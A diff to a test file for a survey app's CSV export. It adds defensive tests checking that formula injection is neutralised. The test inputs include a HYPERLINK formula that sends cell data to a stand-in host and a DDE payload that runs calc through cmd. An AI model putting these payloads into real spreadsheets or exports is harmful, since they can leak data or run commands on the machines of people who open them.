@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest'
 import { toCsv } from '../../../electron/core/exports/csv.ts'
 import { exportFileName } from '../../../electron/core/exports/file-name.ts'
 import { resultsCsv } from '../../../electron/core/exports/results-csv.ts'
+import { unquoteCell } from '../../../shared/exchange/tables/formula-text.ts'
 import type { SurveyDraft } from '../../../shared/models/draft.ts'
 import type { RunResults } from '../../../shared/models/results.ts'
 import { NO_FILTER, type ResultsFilter } from '../../../shared/models/results-filter.ts'
@@ -104,7 +105,33 @@ describe('results as CSV', () => {
 
   it('gives a spreadsheet nothing to run', () => {
     expect(resultsCsv({ run, draft, results, filter: NO_FILTER }, 'long', 'en')).toContain(`"'=HYPERLINK`)
-    expect(toCsv(['a'], [['+1'], ['@x'], ['-2']])).toMatch(/'\+1[\s\S]*'@x[\s\S]*'-2/)
+    expect(toCsv(['a'], [['+1'], ['@x'], ['-2+3']])).toMatch(/'\+1[\s\S]*'@x[\s\S]*'-2/)
+  })
+
+  it('gives none either where the text has lines, or where semicolons or tabs separate the cells', () => {
+    const texts = [
+      '=HYPERLINK("http://evil.example/?"&A2,"voir")\nRien d’autre.',
+      'Rien d’autre.\r\n=1+1',
+      "bof;=cmd|' /C calc'!A0;rien",
+      'bof; "=1+1',
+      'bof\t@SUM(1)',
+      ' \u00a0=1+1',
+      '＝1+1',
+      '\t=1',
+    ]
+    const csv = toCsv(texts, [texts])
+    for (const delimiter of [',', ';', '\t']) {
+      const cells = papaparse.parse<string[]>(csv.slice(1), { delimiter }).data.flat()
+      expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]|^[\t\r]/.test(cell))).toEqual([])
+    }
+    const { data } = papaparse.parse<string[]>(csv.slice(1))
+    expect(data[1]?.map(unquoteCell)).toEqual(texts)
+  })
+
+  it('keeps numbers as numbers, negative ones too', () => {
+    expect(toCsv(['score'], [[-2], ['-0.5'], ['-1,5'], [3]])).toBe(
+      '\uFEFFscore\r\n-2\r\n-0.5\r\n"-1,5"\r\n3\r\n',
+    )
   })
 })
 
